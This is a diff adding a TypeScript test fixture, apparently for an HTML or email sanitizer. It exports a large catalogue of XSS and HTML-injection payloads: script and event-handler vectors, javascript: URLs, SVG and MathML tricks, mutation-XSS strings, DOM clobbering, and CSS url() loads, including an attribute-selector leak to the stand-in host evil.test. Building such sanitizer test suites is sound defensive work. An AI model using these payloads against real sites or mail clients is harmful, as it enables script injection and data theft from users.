@@ -1,0 +1,220 @@
+/** HTML as an attacker would send it, by class. What it tries calls `hit()` in the page around it, or asks for `evil.test`. */
+const evil = 'https://evil.test';
+const act = 'top.hit&&top.hit()';
+const ask = (name: string) => `${evil}/${name}`;
+
+const scripts = [
+  `<script>${act}</script>`,
+  `<SCRIPT>${act}</SCRIPT>`,
+  `<script src="${ask('s.js')}"></script>`,
+  `<script type="module">import '${ask('m.js')}'</script>`,
+  `<script/x>${act}</script>`,
+  `<<script>${act}//<</script>`,
+  `<script\n>${act}</script\n>`,
+  `<scr<script>ipt>${act}</scr</script>ipt>`,
+  `<noscript><p title="</noscript><script>${act}</script>">`,
+  `<template><script>${act}</script></template>`,
+  `<xmp><script>${act}</script></xmp>`,
+  `<plaintext><script>${act}</script>`,
+  `<script defer src="data:text/javascript,${act}"></script>`,
+  `<script nomodule>${act}</script>`,
+  `<script type="text/vbscript">${act}</script>`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${ask('spec')}"]}]}</script>`,
+  `<script type="importmap">{"imports":{"a":"${ask('map.js')}"}}</script>`,
+];
+
+const events = [
+  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onmousemove', 'onfocus', 'onblur'],
+  ...['onanimationstart', 'onanimationend', 'ontransitionend', 'onpointerover', 'onpointerdown', 'onwheel'],
+  ...['onbeforeinput', 'oninput', 'onchange', 'onsubmit', 'onreset', 'onselect', 'onscroll', 'onresize'],
+  ...['ontoggle', 'onbeforetoggle', 'oncut', 'oncopy', 'onpaste', 'ondragstart', 'ondrop', 'onkeydown'],
+  ...[
+    'onpageshow',
+    'onhashchange',
+    'onmessage',
+    'onunload',
+    'onbeforeprint',
+    'oncontentvisibilityautostatechange',
+  ],
+];
+const handlers = events.flatMap((event) => [
+  `<img src=x ${event}="${act}">`,
+  `<body ${event}="${act}"><p tabindex=0 autofocus ${event}=${act}>a</p>`,
+]);
+
+const addresses = [
+  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\nscript:', 'java&#10;script:'],
+  ...['&#106;avascript:', '&#x6a;avascript:', 'javascript&colon;', '\u0001javascript:', 'vbscript:'],
+].map((scheme) => `<a href="${scheme}${act}" target="_self">press</a>`);
+const links = [
+  `<a href="data:text/html,<script>${act}</script>">press</a>`,
+  `<a href="${ask('top')}" target="_top">press</a>`,
+  `<a href="${ask('parent')}" target="_parent">press</a>`,
+  `<a href="${ask('blank')}" target="_blank" rel="opener">press</a>`,
+  `<a href="${ask('ping')}" ping="${ask('pinged')}">press</a>`,
+  `<a href="//evil.test/relative">press</a>`,
+  `<map name="m"><area shape="default" href="${ask('area')}"></map><img usemap="#m" width=99 height=99>`,
+  `<a href="${ask('download')}" download>press</a>`,
+];
+
+const vectors = [
+  `<svg onload="${act}">`,
+  `<svg><script>${act}</script></svg>`,
+  `<svg><script href="${ask('svg.js')}"/></svg>`,
+  `<svg><a xlink:href="javascript:${act}"><text y=20>press</text></a></svg>`,
+  `<svg><image href="${ask('svg.png')}"/></svg>`,
+  `<svg><image xlink:href="${ask('svgx.png')}"/></svg>`,
+  `<svg><use href="${ask('use.svg')}#a"/></svg>`,
+  `<svg><feImage href="${ask('fe.png')}"/></svg>`,
+  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
+  `<svg><set attributeName="onmouseover" to="${act}"/></svg>`,
+  `<svg><a><animate attributeName=href values="javascript:${act}"/><text y=20>press</text></a></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${act}</script>"></iframe></foreignObject></svg>`,
+  `<svg><style>@import '${ask('svg.css')}'</style></svg>`,
+  `<svg><filter id=f><feImage xlink:href="${ask('f.png')}"/></filter></svg>`,
+  `<math><maction actiontype="statusline#${ask('math')}" href="javascript:${act}">press</maction></math>`,
+  `<math href="javascript:${act}"><mtext>press</mtext></math>`,
+  `<math><annotation-xml encoding="text/html"><script>${act}</script></annotation-xml></math>`,
+];
+
+const frames = [
+  `<iframe src="javascript:${act}"></iframe>`,
+  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  `<iframe src="${ask('frame')}"></iframe>`,
+  `<iframe src="data:text/html,<script>${act}</script>"></iframe>`,
+  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${act}</script>"></iframe>`,
+  `<frameset><frame src="${ask('frameset')}"></frameset>`,
+  `<object data="${ask('object')}"></object>`,
+  `<object data="data:text/html,<script>${act}</script>"></object>`,
+  `<embed src="${ask('embed.swf')}">`,
+  `<embed src="data:text/html,<script>${act}</script>">`,
+  `<applet code="${ask('a.class')}"></applet>`,
+  `<fencedframe src="${ask('fenced')}"></fencedframe>`,
+  `<portal src="${ask('portal')}"></portal>`,
+];
+
+const documents = [
+  `<meta http-equiv="refresh" content="0;url=${ask('refresh')}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<meta http-equiv="set-cookie" content="a=b">`,
+  `<base href="${evil}/"><img src="based.png">`,
+  `<base target="_top"><a href="${ask('based')}">press</a>`,
+  `<link rel="stylesheet" href="${ask('sheet.css')}">`,
+  `<link rel="preload" as="image" href="${ask('preload.png')}">`,
+  `<link rel="prefetch" href="${ask('prefetch')}">`,
+  `<link rel="prerender" href="${ask('prerender')}">`,
+  `<link rel="dns-prefetch" href="${evil}">`,
+  `<link rel="preconnect" href="${evil}">`,
+  `<link rel="modulepreload" href="${ask('preload.js')}">`,
+  `<link rel="icon" href="${ask('icon.png')}">`,
+  `<link rel="import" href="${ask('import.html')}">`,
+  `<link rel="manifest" href="${ask('manifest.json')}">`,
+  `<html manifest="${ask('cache')}">`,
+  `</body></html><script>${act}</script>`,
+  `</font></body><body onload="${act}">`,
+  `</iframe><script>${act}</script>`,
+];
+
+const forms = [
+  `<form action="${ask('form')}"><button autofocus>press</button></form>`,
+  `<form id=f action="javascript:${act}"><input type=submit value=press></form>`,
+  `<button form=f formaction="javascript:${act}">press</button>`,
+  `<input type="image" src="${ask('input.png')}">`,
+  `<input autofocus onfocus="${act}">`,
+  `<select autofocus onfocus="${act}"></select>`,
+  `<textarea autofocus onfocus="${act}"></textarea>`,
+  `<keygen autofocus onfocus="${act}">`,
+  `<isindex type=image src="${ask('isindex.png')}" onerror="${act}">`,
+];
+
+const pictures = [
+  `<img src="${ask('i.png')}">`,
+  `<img srcset="${ask('i2.png')} 2x, ${ask('i1.png')} 1x">`,
+  `<img loading=lazy src="${ask('lazy.png')}">`,
+  `<img src="//evil.test/relative.png">`,
+  `<img src="http://evil.test/plain.png">`,
+  `<img lowsrc="${ask('low.png')}" dynsrc="${ask('dyn.png')}">`,
+  `<picture><source srcset="${ask('source.png')}"><img alt=a></picture>`,
+  `<video poster="${ask('poster.png')}" src="${ask('v.mp4')}" autoplay onplay="${act}"></video>`,
+  `<audio src="${ask('a.mp3')}" autoplay oncanplay="${act}"></audio>`,
+  `<video><source src="${ask('source.mp4')}" onerror="${act}"></video>`,
+  `<video><track default src="${ask('track.vtt')}"></video>`,
+  `<table background="${ask('table.png')}"><tr><td background="${ask('cell.png')}">a</table>`,
+  `<body background="${ask('body.png')}">`,
+  `<bgsound src="${ask('b.wav')}">`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>">`,
+  `<image src="${ask('image.png')}" onerror="${act}">`,
+];
+
+const properties = [
+  ...['background', 'background-image', 'list-style-image', 'border-image', 'border-image-source', 'cursor'],
+  ...['content', 'mask', 'mask-image', '-webkit-mask-image', 'filter', 'clip-path', 'shape-outside', 'src'],
+  ...['offset-path', 'behavior', '-moz-binding'],
+];
+const styles = [
+  ...properties.map(
+    (name) => `<p style="list-style:disc;display:list-item;${name}:url('${ask(`${name}.png`)}')">a</p>`,
+  ),
+  `<p style="background:image-set('${ask('set.png')}' 1x)">a</p>`,
+  `<p style="background:-webkit-image-set(url(${ask('wset.png')}) 1x)">a</p>`,
+  `<p style="background:u\\72l(${ask('escaped.png')})">a</p>`,
+  `<p style="background:u/**/rl(${ask('comment.png')})">a</p>`,
+  `<p style="width:expression(${act})">a</p>`,
+  `<p style="--a:url(${ask('variable.png')});background:var(--a)">a</p>`,
+  `<style>@import '${ask('import.css')}';</style>`,
+  `<style>@import url(${ask('importUrl.css')}) screen;</style>`,
+  `<style>@font-face{font-family:x;src:url(${ask('font.woff')})}p{font-family:x}</style><p>a</p>`,
+  `<style>*{background:url(${ask('star.png')})!important}</style>`,
+  `<style>html,body,#outside{display:none!important;color:rgb(1,2,3)!important}</style>`,
+  `<style>:root{--_accent:red}.rk-root{color:red!important}</style>`,
+  `<style>@namespace url(${ask('namespace')});</style>`,
+  `<style>input[value^=a]{background:url(${ask('leak')})}</style><input value=a>`,
+  `<style><!--</style><script>${act}</script>-->`,
+  `<style>@media all{body{background:url(${ask('media.png')})}}</style>`,
+  `<style>@keyframes a{from{background:url(${ask('frames.png')})}}*{animation:a 1s}</style>`,
+  `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">cover</div>`,
+  `<p style="color:red;</p><script>${act}</script>">`,
+];
+
+const mutations = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
+  `<noembed><img title="</noembed><img src onerror=${act}>"></noembed>`,
+  `<textarea><img title="</textarea><img src onerror=${act}>">`,
+  `<title><img title="</title><img src onerror=${act}>">`,
+  `<noframes><img title="</noframes><img src onerror=${act}>">`,
+  `<select><template><img src onerror=${act}></template></select>`,
+  `<table><td><svg><desc><td><img src onerror=${act}>`,
+  `<svg><![CDATA[><img src onerror=${act}>]]></svg>`,
+  `<!--><img src onerror=${act}>-->`,
+  `<!--!><img src onerror=${act}>--!>`,
+  `<![if IE]><script>${act}</script><![endif]>`,
+  `<?xml-stylesheet href="${ask('xml.css')}"?><p>a`,
+  `<p title='"><img src onerror=${act}>'>a`,
+  `<a href="x\`"title="\`onmouseover=${act}">press</a>`,
+  `<img alt="\`\`onerror=${act}" src=x>`,
+  `<div><template shadowrootmode="open"><script>${act}</script><img src="${ask('shadow.png')}"></template></div>`,
+  `<x-a onclick="${act}" autofocus tabindex=0 onfocus="${act}">press</x-a>`,
+  `<details open ontoggle="${act}"><summary>press</summary></details>`,
+  `<marquee onstart="${act}">a</marquee>`,
+  `<dialog open onclose="${act}"><form method=dialog><button>press</button></form></dialog>`,
+  `<button popovertarget=p onclick="${act}">press</button><div id=p popover onbeforetoggle="${act}">a</div>`,
+  '+ADw-script+AD4-top.hit()+ADw-/script+AD4-',
+  `\u202e<img src=x onerror=${act}>`,
+  `<img src=x onerror\u000b=${act}>`,
+  `<img/src=x/onerror=${act}>`,
+  `<img src=x:x onerror\n=\n${act}>`,
+  `<form name="body"><img name="cookie"></form><a id="defaultView" name="location">`,
+  `<img name=getElementById><form id=documentElement></form>`,
+  `${'<div>'.repeat(3000)}<script>${act}</script>`,
+];
+
+/** Each once. */
+export const hostileMail: readonly string[] = [
+  ...new Set([
+    ...[...scripts, ...handlers, ...addresses, ...links, ...vectors, ...frames],
+    ...[...documents, ...forms, ...pictures, ...styles, ...mutations],
+  ]),
+];
